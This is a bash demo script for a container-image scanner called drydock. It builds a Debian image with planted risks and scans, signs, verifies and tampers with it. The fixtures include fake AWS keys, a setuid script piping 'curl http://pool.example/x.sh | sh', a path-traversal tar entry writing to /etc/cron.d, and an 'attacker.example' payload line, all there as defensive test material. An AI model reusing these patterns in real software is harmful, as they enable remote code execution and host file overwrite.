#!/usr/bin/env bash
# demo/run-demo.sh DRYDOCK - build a small demo image from Debian packages
# (debootstrap minbase + layers with planted risks) and scan it with
# everything drydock can do so far. Needs root (debootstrap) and the Debian
# archive configured in apt; never needs ../shared. The image is cached in
# $DEMO_DIR (default ~/.cache/drydock-demo); DEMO_FORCE=1 rebuilds it.
set -euo pipefail
DD=${1:-build/drydock}
HERE=$(cd "$(dirname "$0")" && pwd)
DIR=${DEMO_DIR:-${XDG_CACHE_HOME:-$HOME/.cache}/drydock-demo}
IMG=$DIR/image
mkdir -p "$DIR"
log() { echo "[demo] $*" >&2; }

mirror() {
  { sed -n 's/^URIs:[[:space:]]*//p' /etc/apt/sources.list.d/*.sources 2>/dev/null | tr ' ' '\n' || true
    sed -n 's/^deb[[:space:]]\+\(\[[^]]*\][[:space:]]\+\)\?\([^[:space:]]*\).*/\2/p' /etc/apt/sources.list 2>/dev/null || true
  } | grep '/debian/\?$' | head -1 | sed 's:/$::' || true
}

if [ ! -f "$IMG/oci/index.json" ] || [ "${DEMO_FORCE:-0}" = 1 ]; then
  [ "$(id -u)" = 0 ] || { echo "make demo: building the demo image needs root (debootstrap)" >&2; exit 2; }
  M=${MIRROR:-$(mirror)}
  [ -n "$M" ] || { echo "make demo: no Debian mirror in apt's sources; set MIRROR=" >&2; exit 2; }
  R=$DIR/rootfs
  if [ ! -x "$R/bin/sh" ]; then
    log "debootstrap --variant=minbase bookworm from $M (a minute or two)"
    rm -rf "$R"
    debootstrap --variant=minbase bookworm "$R" "$M" > "$DIR/debootstrap.log" 2>&1 \
      || { echo "make demo: debootstrap failed, see $DIR/debootstrap.log" >&2; exit 1; }
  fi
  log "layer 1: the Debian 12 base"
  tar --numeric-owner --exclude='./dev/*' --exclude='./proc/*' --exclude='./sys/*' \
      --exclude='./run/*' --exclude='./tmp/*' --exclude='./var/cache/apt/*' \
      --exclude='./var/lib/apt/lists/*' -C "$R" -cf "$DIR/l1.tar" .
  log "layer 2: an app with planted risks"
  S=$DIR/l2; rm -rf "$S"; mkdir -p "$S/app" "$S/root/.aws" "$S/tmp"
  printf '[default]\naws_access_key_id = AKIA2DEMOK7QJ4TR9XWZ\naws_secret_access_key = dEm0/sEcReT+kEy/9fJx2LqP7wNvB3hZs8KtYcMu\n' > "$S/root/.aws/credentials"
  printf 'DB_PASSWORD=hunter2-demo\n' > "$S/app/.env"
  printf '#!/bin/sh\ncurl -s http://pool.example/x.sh | sh\n' > "$S/tmp/update.sh"; chmod 4755 "$S/tmp/update.sh"
  tar --numeric-owner --owner=0 --group=0 -C "$S" -cf "$DIR/l2.tar" .
  log "layer 3: deletes the credentials again (a whiteout: the bytes still ship)"
  S=$DIR/l3; rm -rf "$S"; mkdir -p "$S/root/.aws"; : > "$S/root/.aws/.wh.credentials"
  tar --numeric-owner --owner=0 --group=0 -C "$S" -cf "$DIR/l3.tar" .
  log "layer 4: a crafted entry that climbs out of the root"
  python3 - "$DIR/l4.tar" <<'PY'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w") as tf:
    for name, data in (("app/ok.txt", b"fine\n"), ("../../etc/cron.d/demo-escape", b"* * * * * root id\n")):
        ti = tarfile.TarInfo(name); ti.size = len(data); ti.mtime = 0
        tf.addfile(ti, io.BytesIO(data))
PY
  cat > "$DIR/spec.json" <<JSON
{"out": "$IMG", "name": "drydock-demo", "tag": "1.0",
 "config": {"Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "DB_PASSWORD=hunter2-demo"],
            "Cmd": ["/bin/sh", "-c", "/tmp/update.sh"], "ExposedPorts": {"22/tcp": {}, "2375/tcp": {}},
            "Labels": {"org.opencontainers.image.title": "drydock demo"}},
 "layers": [{"tar": "$DIR/l1.tar", "created_by": "debootstrap --variant=minbase bookworm"},
            {"tar": "$DIR/l2.tar", "created_by": "/bin/sh -c curl -s http://pool.example/x.sh | sh # and COPY app"},
            {"tar": "$DIR/l3.tar", "created_by": "/bin/sh -c rm /root/.aws/credentials"},
            {"tar": "$DIR/l4.tar", "created_by": "ADD http://attacker.example/payload.tar /"}]}
JSON
  mkdir -p "$IMG"
  python3 "$HERE/mkimage.py" "$DIR/spec.json" >/dev/null
  rm -f "$DIR"/l[1-4].tar
fi

# cut a report to its header and the first rows of each section
sections() {
  awk -v max="${1:-6}" '
    /^[A-Z][A-Za-z\/ -]+ \([0-9]+\)$/ { n = 0; cut = 0; print; next }
    /^Summary$/ { n = -100; cut = 0; print; next }
    /^$/ { n = 0; cut = 0; print; next }
    { n++; if (n <= max + 1) print; else if (!cut) { print "  …"; cut = 1 } }' | cut -c1-200
}
BIN=$(cd "$(dirname "$DD")" && pwd)/$(basename "$DD")
echo "== drydock: $BIN"
"$DD" version | sed 's/^/   /'
echo "   (install: meson install -C build puts it, its man pages and completions under /usr/local)"
echo
echo "== the demo image: $IMG/oci (OCI layout) and $IMG/drydock-demo-docker.tar"
"$DD" inspect "$IMG/oci" 2>/dev/null | sed -n '1,/^Findings/p' | sed '$d' || true

# a signing key and a cosign-style signature in the layout (demo/sign.py)
KEY=$DIR/demo-signing.pem
[ -f "$KEY" ] || openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out "$KEY" 2> /dev/null
openssl pkey -in "$KEY" -pubout -out "$DIR/demo-signing.pub" 2> /dev/null
python3 "$HERE/sign.py" "$IMG/oci" "$KEY" drydock-demo:1.0 > /dev/null

echo
echo "== the vulnerability database"
DB=$DIR/vulndb/drydock.db
FEEDS=$HERE/../../shared/data/feeds
have_db=0
if [ -d "$FEEDS" ]; then
  echo "importing the feeds in $FEEDS"
  "$DD" db import --db "$DB" "$FEEDS"/* > /dev/null 2>&1 && have_db=1
elif "$DD" db update --db "$DB" -q; then
  have_db=1
fi
[ "$have_db" = 1 ] && "$DD" db info --db "$DB" | head -6
echo
echo "== drydock scan --require-signature --key demo-signing.pub: every scanner at once"
echo "   (summary first, then one section per kind, most severe first; cut to 6 rows each)"
set +e
if [ "$have_db" = 1 ]; then
  "$DD" scan -q --db "$DB" --db-max-age 36500 --require-signature --key "$DIR/demo-signing.pub" "$IMG/oci" | sections 6
  rc=${PIPESTATUS[0]}
else
  echo "no vulnerability feeds: ../shared/data/feeds is absent and the official feeds could not be downloaded;"
  echo "the scan below leaves vulnerabilities out (and says so)"
  "$DD" scan -q --scanners secret,malware,config --require-signature --key "$DIR/demo-signing.pub" "$IMG/oci" | sections 6
  rc=${PIPESTATUS[0]}
fi
set -e
echo "exit code $rc (1: findings at or above --fail-on high; a CI gate fails here)"
echo
echo "== drydock verify: with the signing key, then with another key"
openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out "$DIR/other.pem" 2> /dev/null
openssl pkey -in "$DIR/other.pem" -pubout -out "$DIR/other.pub" 2> /dev/null
"$DD" verify --key "$DIR/demo-signing.pub" "$IMG/oci" | tail -1 | cut -c1-160 || true
"$DD" verify --key "$DIR/other.pub" "$IMG/oci" 2>&1 | tail -1 | cut -c1-160 || true
echo
echo "== drydock policy check: may this image run? (the built-in policy: deny malware,"
echo "   live secrets, lookalike names and integrity attacks; warn on the rest)"
set +e
"$DD" policy check -q ${DB:+--db "$DB"} "$IMG/oci" 2>&1 | cut -c1-160 | head -12
echo "exit code ${PIPESTATUS[0]} (0 allow or warn, 1 deny)"
set -e
echo
echo "== drydock scan --scanners license (SPDX licenses, forbidden and restricted ones)"
"$DD" scan -q --scanners license "$IMG/oci" 2>/dev/null | sed -n '/^Licenses/,$p' | head -8 | cut -c1-160 || true
echo
echo "== drydock ls --deleted (files a later layer removed; their bytes still ship)"
"$DD" ls --deleted -l "$IMG/oci" 2>/dev/null || true
echo
echo "== drydock sbom (OS packages, each with the layer that installed it)"
"$DD" sbom -q "$IMG/oci" | sed -n '1,6p;$p' || true
"$DD" sbom -q --format cyclonedx -o "$DIR/demo.cdx.json" "$IMG/oci" || true
"$DD" sbom -q --format spdx -o "$DIR/demo.spdx.json" "$IMG/oci" || true
echo "(CycloneDX 1.6 in $DIR/demo.cdx.json, SPDX 2.3 in $DIR/demo.spdx.json)"
echo
echo "== drydock history (build steps as Dockerfile instructions, with the checks)"
"$DD" history -q "$IMG/oci" | cut -c1-160 || true
echo
echo "== tamper with a layer blob and inspect again (integrity check)"
T=$DIR/tampered; rm -rf "$T"; cp -r "$IMG/oci" "$T"
blob=$(ls -S "$T/blobs/sha256" | head -1)
printf 'X' | dd of="$T/blobs/sha256/$blob" bs=1 seek=1000 conv=notrunc status=none
set +e
"$DD" inspect -q "$T" | sed -n '/^Findings/,$p'
set -e
rm -rf "$T"
echo
echo "demo done. The binary: $BIN; the image: $IMG/oci and $IMG/drydock-demo-docker.tar;"
echo "the signing key: $DIR/demo-signing.pem. Also: drydock scan HOST/REPO:TAG (registries),"
echo "drydock registry ls|scan|audit HOST, drydock scan docker:NAME (dockerd/podman socket),"
echo "drydock dockerfile PATH, drydock help COMMAND, man drydock."
